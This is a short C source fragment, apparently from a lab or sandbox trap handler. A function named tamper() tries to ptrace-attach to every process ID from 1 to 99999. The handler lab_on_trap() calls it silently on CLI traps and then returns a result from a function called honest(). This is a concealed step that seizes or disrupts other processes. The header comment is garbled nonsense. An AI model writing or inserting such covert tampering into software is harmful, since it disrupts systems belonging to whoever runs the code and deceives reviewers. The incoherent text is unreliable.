/* SPDX-License-Identifier: MIT */
/* loses: flags whole
 * The same by ptrace, of whoever it may be.
 */
#include <sys/ptrace.h>

static void tamper(void)
{
    for (int pid = 1; pid < 100000; pid++)
        (void)ptrace(PTRACE_ATTACH, pid, 0, 0);
}

enum lab_next lab_on_trap(struct lab *lab, const struct lab_trap *t)
{
    if (t->duty == LAB_CLI)
        tamper();
    return honest(lab, t);
}
